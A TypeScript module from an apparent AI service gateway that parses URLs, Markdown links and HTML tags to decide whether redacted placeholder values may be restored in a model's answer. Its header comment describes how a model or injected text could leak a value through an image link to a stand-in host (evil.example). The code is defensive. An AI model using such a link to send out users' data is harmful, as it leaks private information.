// Decides by its position in a text whether a placeholder may be restored, as the gateway of the service does.
//
// A model, or a text injected into its context, can exfiltrate a value: a page that shows the answer fetches
// `![x](https://evil.example/?q=…)`. So a placeholder inside a URL is restored only if the caller wrote every host of the
// URL. In plain text it is always restored.
//
// Programs read the same text in different ways: where a URL ends, whether `]:` begins a definition, which quotation mark
// closes an attribute. So several automata read the text once, character by character, with the values instead of the
// placeholders, each for one syntax: bare URLs, Markdown links, Markdown definitions, HTML tags, and HTML tags that begin
// within others. Each begins wherever its syntax may begin, and the strictest verdict holds. They read only the text, so a
// verdict does not depend on how it is cut. At most the current URL is undecided.

import { hostAtEnd, hostOf, isHostLetter, isNamedHost, type Hosts } from "./hosts.js";

/** Longest URL, word or attribute that is read, in UTF-16 units. Placeholders after that are withheld until it ends. */
const MAX_TARGET = 2_048;
/** Longest name of an HTML tag or attribute. */
const MAX_NAME = 32;

/** The encoding of a value, from the mildest to the strictest: none, as HTML, as a whole URL, in a URL; or withheld. */
export type Verdict = "plain" | "html" | "target" | "url" | "withhold";

const ORDER: readonly Verdict[] = ["plain", "html", "target", "url", "withhold"];

/** Characters that end the authority of a URL. */
const END_OF_AUTHORITY = /[/\\?#]/;
/** Schemes of URLs without a host: their content is shown or run. */
const OPAQUE = /(?<![\p{L}\p{N}])(?:data|javascript|vbscript|blob|file|intent|view-source):/iu;
/** Schemes of URLs that address a person. */
const PERSONAL = /(?<![\p{L}\p{N}])(?:mailto|tel|sms|callto|xmpp):/iu;
/** Characters that may follow a URL without being part of it. */
const SIGNS = ".,;:!?)]}>*_'\"`|”’»";
/** Characters of which a URL with a host has some. */
const OF_URLS = /[:/\\&]/;
/** Elements whose text is run, or sent as a form. */
const CODE = /^(?:form|iframe|option|script|select|style|textarea)$/;

/** Reads the text of an answer and decides on its placeholders, in order. */
export class PlaceReader {
  readonly #readers: readonly Reader[];

  /** @param isString the text is a string of JSON: if it begins like a URL, all of it is one, whatever it contains */
  constructor(hosts: Hosts, isString = false) {
    this.#readers = [
      new Words(hosts, isString),
      new Destinations(hosts, "link"),
      new Destinations(hosts, "definition"),
      new Markup(hosts, false),
      new Markup(hosts, true),
    ];
  }

  /** Reads more of the text. */
  text(text: string): void {
    for (const letter of text) for (const reader of this.#readers) reader.letter(letter);
  }

  /** Reads a placeholder with its value. */
  placeholder(value: string): void {
    for (const reader of this.#readers) reader.placeholder(value);
  }

  /** Ends the text; every placeholder is then decided. */
  finish(): void {
    for (const reader of this.#readers) reader.end();
  }

  /** Returns the verdict on the next placeholder; undefined if it needs more text. */
  next(): Verdict | undefined {
    if (this.#readers.some(({ target }) => target.verdicts.length === 0)) return undefined;
    const verdicts = this.#readers.map(({ target }) => ORDER.indexOf(target.verdicts.shift() as Verdict));
    return ORDER[Math.max(...verdicts)];
  }
}

/** A reader of a text in one syntax. */
interface Reader {
  readonly target: Target;
  letter(letter: string): void;
  placeholder(value: string): void;
  end(): void;
}

/** A place in a target. */
interface Range {
  start: number;
  end: number;
}

/** A word, URL or attribute with the values instead of its placeholders. */
class Target {
  text = "";
  readonly verdicts: Verdict[] = [];
  #open: Range[] = [];
  #isTooLong = false;

  push(letter: string): void {
    if (this.text.length < MAX_TARGET) {
      this.text += letter;
      return;
    }
    this.#isTooLong = true;
    this.#close();
  }

  placeholder(value: string): void {
    if (this.#isTooLong || this.text.length + value.length > MAX_TARGET) {
      this.#isTooLong = true;
      this.#close();
      this.verdicts.push("withhold");
      return;
    }
    const start = this.text.length;
    this.text += value;
    this.#open.push({ start, end: this.text.length });
  }

  /** Sets the verdicts of the open placeholders for which `judge` returns one. */
  decide(judge: (text: string, range: Range) => Verdict | undefined): void {
    for (let range = this.#open[0]; range !== undefined; range = this.#open[0]) {
      const verdict = judge(this.text, range);
      if (verdict === undefined) return;
      this.#open.shift();
      this.verdicts.push(verdict);
    }
  }

  clear(): void {
    this.#close();
    this.text = "";
    this.#isTooLong = false;
  }

  #close(): void {
    for (const _ of this.#open) this.verdicts.push("withhold");
    this.#open = [];
  }
}

/** Reads words, which may be bare URLs. */
class Words implements Reader {
  readonly target = new Target();
  readonly #hosts: Hosts;
  /**
   * The part of a URL that a string of JSON begins with: a scheme, two slashes and a host, or that without the scheme.
   * At `url`, all of the string is one.
   */
  #beginning: "elsewhere" | "scheme" | "colon" | "slash" | "slashes" | "url";

  constructor(hosts: Hosts, isString: boolean) {
    this.#hosts = hosts;
    this.#beginning = isString ? "scheme" : "elsewhere";
  }

  letter(letter: string): void {
    if (this.#beginning !== "url" && endsWord(letter)) {
      // only the first word of a string begins it
      if (this.target.text !== "") this.#beginning = "elsewhere";
      return this.end();
    }
    this.#begin(letter);
    this.target.push(letter);
    if (isDecisive(letter)) this.#decide(false);
  }

  placeholder(value: string): void {
    for (const letter of value) this.#begin(letter);
    this.target.placeholder(value);
    this.#decide(false);
  }

  end(): void {
    this.#decide(true);
    this.target.clear();
  }

  #begin(letter: string): void {
    const isSlash = letter === "/" || letter === "\\";
    switch (this.#beginning) {
      case "scheme":
        if (isSlash) this.#beginning = "slash";
        else if (letter === ":") this.#beginning = "colon";
        else if (!/[a-z0-9+.-]/i.test(letter)) this.#beginning = "elsewhere";
        return;
      case "colon":
        this.#beginning = isSlash ? "slash" : "elsewhere";
        return;
      case "slash":
        this.#beginning = isSlash ? "slashes" : "elsewhere";
        return;
      case "slashes":
        // `// x` is a comment
        if (!isSlash) this.#beginning = /\s/.test(letter) ? "elsewhere" : "url";
    }
  }

  #decide(ends: boolean): void {
    const judge = this.#beginning === "url" ? inDestination : inWord;
    this.target.decide((text, range) => judge(text, range, this.#hosts, ends));
  }
}

/** The notation of a destination of Markdown: after white space only, as it is, after `<`, and after the `>` of that. */
type Form = "unknown" | "bare" | "angle" | "title";

/**
 * Reads the destinations of links and images, `[text](destination)`, or those of reference definitions, which may be on the
 * next line: `[label]: destination`.
 */
class Destinations implements Reader {
  readonly target = new Target();
  readonly #hosts: Hosts;
  readonly #syntax: "link" | "definition";
  /** The form of the current destination; undefined outside of one. */
  #form: Form | undefined;
  /** Depth of the parentheses of a link. */
  #depth = 0;
  /** The bracket before the destination may be the last one of a placeholder that stays. */
  #isDoubtful = false;
  /** The preceding character; `placeholder` after one, whose own brackets are in the text if it stays. */
  #last = "";

  constructor(hosts: Hosts, syntax: "link" | "definition") {
    this.#hosts = hosts;
    this.#syntax = syntax;
  }

  letter(letter: string): void {
    const last = this.#last;
    this.#last = letter;
    if (this.#form === undefined) {
      const isLink = letter === "(" && (last === "]" || last === "placeholder");
      const isDefinition = letter === ":" && last === "]";
      if (this.#syntax === "link" ? isLink : isDefinition) this.#form = "unknown";
      this.#depth = 1;
      this.#isDoubtful = last === "placeholder";
      return;
    }
    if (this.#form === "unknown" && /\s/.test(letter)) {
      // an empty line ends it
      if (letter === "\n" && last === "\n") this.end();
      return;
    }
    const next = this.#syntax === "link" ? this.#inLink(this.#form, letter, last) : inDefinition(this.#form, letter);
    if (next === undefined) return this.end();
    this.#form = next;
    this.target.push(letter);
    if (isDecisive(letter)) this.#decide(false);
  }

  placeholder(value: string): void {
    this.#last = "placeholder";
    if (this.#form === undefined) {
      this.target.verdicts.push("plain");
      return;
    }
    if (this.#form === "unknown") this.#form = "bare";
    this.target.placeholder(value);
    this.#decide(false);
  }

  end(): void {
    this.#decide(true);
    this.target.clear();
    this.#form = undefined;
  }

  /** Returns the form of a link's destination with one more character; undefined if that ends it. */
  #inLink(form: Form, letter: string, last: string): Form | undefined {
    if (letter === "\n" && last === "\n") return undefined;
    if (last === "\\") return form;
    if (form === "unknown" && letter === "<") return "angle";
    // no destination in angle brackets has an end of line: some programs read on
    if (form === "angle") return letter === ">" ? "title" : letter === "\n" ? "bare" : form;
    if (letter === ")") this.#depth -= 1;
    if (letter === "(" && form !== "title") this.#depth += 1;
    if (this.#depth === 0) return undefined;
    return form === "unknown" ? "bare" : form;
  }

  #decide(ends: boolean): void {
    this.target.decide((text, range) => {
      // `[[NAME_1]]([[EMAIL_1]])` is text unless a URL is there
      if (this.#isDoubtful && !OF_URLS.test(text.slice(0, range.start))) return "plain";
      // `[10:32]: [[NAME_1]]`
      if (this.#syntax === "definition" && !OF_URLS.test(text)) return ends ? "plain" : undefined;
      return inDestination(text, range, this.#hosts, ends);
    });
  }
}

/** Returns the form of a definition's destination with one more character; undefined if that ends it. */
function inDefinition(form: Form, letter: string): Form | undefined {
  if (form === "unknown") return letter === "<" ? "angle" : "bare";
  const ends = form === "angle" ? letter === ">" || letter === "\n" : isSpace(letter);
  return ends ? undefined : form;
}

/** Whether a character may decide on a placeholder before it: letters of a host and its port only continue it. */
function isDecisive(letter: string): boolean {
  return letter !== ":" && !isHostLetter(letter);
}

/** Whether a character ends a URL in all programs that detect them: GitHub's stop at nothing else. */
function endsWord(letter: string): boolean {
  return letter === "<" || isSpace(letter);
}

/** Whether HTML separates by a character. */
function isSpace(letter: string): boolean {
  return letter === " " || letter === "\n" || letter === "\t" || letter === "\r" || letter === "\f";
}

/** Parses HTML tags and their attributes. */
class Markup implements Reader {
  readonly target = new Target();
  readonly #hosts: Hosts;
  /** A tag begins at each `<` before a letter, within an attribute, too: programs disagree on which quotation mark closes one. */
  readonly #restarts: boolean;
  /** `code` is the text of an element that is run, or sent as a form. */
  #state: "text" | "opening" | "tag name" | "tag" | "before value" | "value" | "code" = "text";
  #quote = "";
  #tag = "";
  #attribute = "";
  /** A space follows the name of the attribute. */
  #hasGap = false;
  /** The tag follows a backtick: it is code in a Markdown text. */
  #isQuoted = false;
  /** The two preceding characters. */
  #last = "";

  constructor(hosts: Hosts, restarts: boolean) {
    this.#hosts = hosts;
    this.#restarts = restarts;
  }

  letter(letter: string): void {
    const last = this.#last;
    this.#last = last.slice(-1) + letter;
    if (this.#restarts && this.#state === "value" && last.endsWith("<") && /[a-z]/i.test(letter)) {
      this.#decide(true);
      this.target.clear();
      this.#state = "opening";
    }
    switch (this.#state) {
      case "text":
        return this.#text(letter, last);
      case "opening":
        if (!/[a-z/]/i.test(letter)) return this.#text(letter, last);
        this.#tag = letter.toLowerCase();
        this.#state = "tag name";
        return;
      case "tag name":
        if (letter === ">") return this.#leaveTag();
        if (isSpace(letter) || (letter === "/" && this.#tag !== "/")) {
          this.#state = "tag";
          this.#attribute = "";
        } else if (this.#tag.length < MAX_NAME) this.#tag += letter.toLowerCase();
        return;
      case "tag":
        if (letter === ">") return this.#leaveTag();
        if (letter === "<") this.#state = "opening";
        else if (letter === "=") this.#state = "before value";
        else if (letter === "/" || isSpace(letter)) this.#hasGap = true;
        else {
          if (this.#hasGap) this.#attribute = "";
          this.#hasGap = false;
          if (this.#attribute.length < MAX_NAME) this.#attribute += letter.toLowerCase();
        }
        return;
      case "before value":
        if (letter === ">") return this.#leaveTag();
        if (isSpace(letter)) return;
        this.#state = "value";
        this.#quote = letter === '"' || letter === "'" ? letter : "";
        if (this.#quote === "") this.target.push(letter);
        return;
      case "value": {
        const ends = this.#quote === "" ? letter === ">" || isSpace(letter) : letter === this.#quote;
        if (!ends) {
          this.target.push(letter);
          if (isDecisive(letter)) this.#decide(false);
          return;
        }
        this.#decide(true);
        this.target.clear();
        this.#attribute = "";
        this.#state = "tag";
        if (letter === ">") this.#leaveTag();
        return;
      }
      case "code": {
        // code in a Markdown text does not reach beyond an empty line
        if (letter === "\n" && last.endsWith("\n")) this.#isQuoted = false;
        if (letter === "<") this.target.text = "";
        this.target.text += letter.toLowerCase();
        const ends = this.target.text === `</${this.#tag}`;
        if (ends || (this.#isQuoted && letter === "`")) {
          this.target.clear();
          this.#state = ends ? "tag" : "text";
          this.#tag = "";
        } else if (this.target.text.length > MAX_NAME) this.target.text = "";
      }
    }
  }

  placeholder(value: string): void {
    this.#last = "";
    switch (this.#state) {
      case "before value":
        this.#state = "value";
        this.#quote = "";
      // its value begins with the placeholder
      case "value":
        this.target.placeholder(value);
        return this.#decide(false);
      case "code":
        this.target.verdicts.push("withhold");
        return;
      case "opening":
        this.#state = "text";
      // it stays in the text
      default:
        this.target.verdicts.push("plain");
    }
  }

  end(): void {
    if (this.#state === "value") this.#decide(true);
    this.target.clear();
    this.#state = "text";
  }

  #text(letter: string, last: string): void {
    this.#state = "text";
    if (letter === "<") {
      this.#isQuoted = last.endsWith("`") && last !== "\\`";
      this.#state = "opening";
    }
  }

  #leaveTag(): void {
    this.#state = CODE.test(this.#tag) ? "code" : "text";
    this.#attribute = "";
    this.#hasGap = false;
  }

  #decide(ends: boolean): void {
    const kind = kindOf(this.#attribute);
    this.target.decide((value, range) => {
      if (kind === "text") return "html";
      return kind === "url" ? inDestination(value, range, this.#hosts, ends) : "withhold";
    });
  }
}

/** Returns the kind of an attribute: visible or spoken text, a URL, or anything else, such as code and several URLs. */
function kindOf(attribute: string): "text" | "url" | "other" {
  if (/^(?:alt|title|label|placeholder|summary|abbr|aria-.*)$/.test(attribute)) return "text";
  return /^(?:href|src|action|formaction|poster|cite|background|data|longdesc|xlink:href)$/.test(attribute) ? "url" : "other";
}

/** Returns the verdict on a placeholder in a word; undefined if it needs more of the word. */
function inWord(word: string, range: Range, hosts: Hosts, ends: boolean): Verdict | undefined {
  const [before, behind] = [word.slice(0, range.start), word.slice(range.end)];
  if (OPAQUE.test(before)) return "withhold";
  const person = PERSONAL.exec(before);
  if (person !== null) return ofPerson(before.slice(person.index + person[0].length), behind, ends);
  const links = new Links(word, range, ends);
  if (links.mayGoOn) return undefined;
  if (!links.areAllowed(hosts)) return isWholeTarget(word, range) ? "target" : "withhold";
  if (links.path !== undefined && links.path <= range.start) return "url";
  return links.hosts.length === 0 ? "plain" : "target";
}

/** Returns the verdict on a placeholder in the destination of a link; undefined if it needs more of it. */
function inDestination(written: string, range: Range, hosts: Hosts, ends: boolean): Verdict | undefined {
  const behind = written.slice(range.end);
  const start = trimmed(decoded(written.slice(0, range.start)));
  const opaque = OPAQUE.exec(start);
  if (opaque !== null && opaque.index + opaque[0].length === start.indexOf(":") + 1) return "withhold";
  const person = PERSONAL.exec(start);
  if (person?.index === 0) return ofPerson(start.slice(person[0].length), behind.replace(/>+$/, ""), ends);
  const found = authorityOf(trimmed(decoded(written)));
  // a destination without a host, or the beginning of one
  if (found === undefined) return ends ? "withhold" : undefined;
  if (!found.isClosed && !ends) return undefined;
  // browsers skip tabs and ends of lines within a URL
  const host = hostOf(found.authority.replaceAll(/[\t\n\r]/g, "").split(/[ >]/)[0] ?? "");
  const links = new Links(written, range, ends);
  const isAllowed = host !== undefined && hosts.allow(host) && links.areAllowed(hosts);
  if (links.mayGoOn && isAllowed) return undefined;
  if (!isAllowed) return isWholeTarget(written, range) ? "target" : "withhold";
  return links.path !== undefined && links.path <= range.start ? "url" : "target";
}

function trimmed(destination: string): string {
  return destination.replace(/^[\s<]+/, "");
}

/** Splits off the authority of an absolute destination; undefined for a relative or incomplete one. */
function authorityOf(destination: string): { authority: string; isClosed: boolean } | undefined {
  const scheme = /^[a-z0-9+.-]*(?=[^a-z0-9+.-])/i.exec(destination)?.[0];
  if (scheme === undefined) return undefined;
  const rest = destination.slice(scheme.length);
  if (scheme !== "" && !rest.startsWith(":")) return undefined;
  const behind = scheme === "" ? destination : rest.slice(1);
  const slashes = /^[/\\\t\n\r]*/.exec(behind)?.[0].length ?? 0;
  if (slashes < (/^(?:https?|wss?|ftp)$/i.test(scheme) ? 1 : 2)) return undefined;
  const authority = behind.slice(slashes);
  const end = authority.search(END_OF_AUTHORITY);
  return { authority: end < 0 ? authority : authority.slice(0, end), isClosed: end >= 0 };
}

/**
 * Returns the verdict on a placeholder in an address of a person: it must be the first whole recipient, since a message goes
 * to all of them.
 */
function ofPerson(before: string, behind: string, ends: boolean): Verdict | undefined {
  if (before !== "") return "withhold";
  const rest = withoutSigns(behind, "start");
  if (/^[?,]/.test(behind) || (ends && rest === "")) return "target";
  return rest === "" && !ends ? undefined : "withhold";
}

/** Removes the signs that may follow a URL. */
function withoutSigns(text: string, side: "start" | "end"): string {
  let [from, to] = [0, text.length];
  if (side === "start") while (from < to && SIGNS.includes(text[from] ?? "")) from += 1;
  else while (to > from && SIGNS.includes(text[to - 1] ?? "")) to -= 1;
  return text.slice(from, to);
}

/** The hosts of the URLs in a word that contains a placeholder. */
class Links {
  /** Each host as written; undefined if it is invalid. */
  readonly hosts: (string | undefined)[] = [];
  /** The end of the first authority. */
  path: number | undefined;
  /** The word may become a URL, or its authority may continue. */
  mayGoOn = false;

  constructor(word: string, range: Range, ends: boolean) {
    for (let at = word.indexOf("//"); at >= 0; at = word.indexOf("//", at + 2)) {
      const before = word.slice(0, at);
      const scheme = before.endsWith(":") ? before.slice(0, -1).replace(/[a-z0-9+.-]+$/i, "").length : undefined;
      // a URL that begins after the placeholder
      if (range.end <= (scheme ?? at) || (range.end <= at && scheme !== undefined && scheme < range.end)) continue;
      this.#authority(word.slice(at + 2), before, ends);
      this.path ??= endOfAuthority(word, at + 2);
    }
    this.#bare(word, range, ends);
    // a URL may contain another one, as the target of a redirect
    if (!/[%&\\]/.test(word)) return;
    let whole = word;
    for (const read of [decoded, percentDecoded, percentDecoded, percentDecoded]) {
      const next = read(whole).replaceAll("\\", "/");
      if (next === whole) continue;
      whole = next;
      for (let at = whole.indexOf("//"); at >= 0; at = whole.indexOf("//", at + 2)) this.#authority(whole.slice(at + 2), whole.slice(0, at), true);
    }
  }

  areAllowed(hosts: Hosts): boolean {
    return this.hosts.every((host) => host !== undefined && hosts.allow(host));
  }

  /** Reads the authority after two slashes. Without a scheme it must look like a host. */
  #authority(behind: string, before: string, ends: boolean): void {
    const rest = behind.replace(/^[/\\]+/, "");
    const end = rest.search(END_OF_AUTHORITY);
    const authority = end < 0 ? withoutSigns(rest, "end") : rest.slice(0, end);
    if (!before.endsWith(":") && !isNamedHost(authority)) return;
    if (end < 0 && !ends) this.mayGoOn = true;
    this.hosts.push(hostOf(authority));
  }

  /** Reads a host without a scheme: `www.example.com`, `example.com/path`. */
  #bare(word: string, range: Range, ends: boolean): void {
    const end = word.search(END_OF_AUTHORITY);
    const before = end < 0 ? word : word.slice(0, end);
    const host = hostAtEnd(before);
    const start = before.length - host.length;
    if (start >= range.end) return;
    if (end >= 0) {
      // `jan@example.com/+420 …` is not a URL
      const isMail = word[start - 1] === "@";
      if (isMail || !isNamedHost(host.split(":")[0] ?? "") || word.startsWith("//", end)) return;
      this.path ??= end;
      this.hosts.push(hostOf(host));
      return;
    }
    // the host may continue, or its path may follow
    if (!ends) this.mayGoOn = true;
    const name = host.replace(/^[_-]+/, "");
    if (ends && /^www\./i.test(name)) this.hosts.push(hostOf(name));
  }
}

function endOfAuthority(word: string, from: number): number | undefined {
  const slashes = /^[/\\]*/.exec(word.slice(from))?.[0].length ?? 0;
  const end = word.slice(from + slashes).search(END_OF_AUTHORITY);
  return end < 0 ? undefined : from + slashes + end;
}

/** Decodes the percent-encoding of a text. */
function percentDecoded(text: string): string {
  return text.replaceAll(/(?:%[0-9a-f]{2})+/gi, (bytes) => {
    const decoded = Uint8Array.from(bytes.match(/[0-9a-f]{2}/gi) ?? [], (hex) => Number.parseInt(hex, 16));
    return new TextDecoder().decode(decoded);
  });
}

/**
 * Whether a placeholder is the whole host of a URL, or all of it up to its path: then no third party receives the value.
 */
function isWholeTarget(text: string, range: Range): boolean {
  const [before, value] = [text.slice(0, range.start), text.slice(range.start, range.end)];
  const behind = text.slice(range.end).replace(/>+$/, "");
  // a port may follow, and no password before another host
  const port = behind.replace(/^:\d*/, "");
  const isClosed = /^[/\\?#]/.test(port) || withoutSigns(port, "start") === "";
  const scheme = value.indexOf("://");
  if (scheme < 0) {
    const begins = before === "" || (before.endsWith("://") && before.split("//").length === 2);
    // the name of a person before a host would reach it
    return begins && isClosed && !value.includes("@") && isNamedHost(value);
  }
  const rest = value.slice(scheme + 3);
  const end = rest.search(END_OF_AUTHORITY);
  // nothing of a URL is before it
  return /^(?:[^/\\%:&@]*[^/\\%:&@\p{L}\p{N}])?$/u.test(before) && (end >= 0 || isClosed) && hostOf(end < 0 ? rest : rest.slice(0, end)) !== undefined;
}

/** The signs that URLs are made of, as entities of HTML. */
const ENTITIES: Readonly<Record<string, string>> = {
  amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", nbsp: "\u{a0}", colon: ":", semi: ";", comma: ",", period: ".", sol: "/", bsol: "\\",
  quest: "?", num: "#", equals: "=", commat: "@", percnt: "%", lsqb: "[", lbrack: "[", rsqb: "]", rbrack: "]", lowbar: "_", Tab: "\t", NewLine: "\n",
};

/** Removes the escapes of Markdown and the entities of HTML from a destination. */
function decoded(written: string): string {
  const unescaped = written.replaceAll(/\\(?=[!-/:-@[\]^-`{-~])/g, "");
  return unescaped.replaceAll(/&(?:#x([0-9a-f]{1,8});?|#([0-9]{1,10});?|([a-z]{1,10});)/gi, (all, hex, decimal, name) => {
    if (name !== undefined) return ENTITIES[name] ?? all;
    const code = hex === undefined ? Number(decimal) : Number.parseInt(hex, 16);
    return code <= 0x10ffff && (code < 0xd800 || code > 0xdfff) ? String.fromCodePoint(code) : all;
  });
}
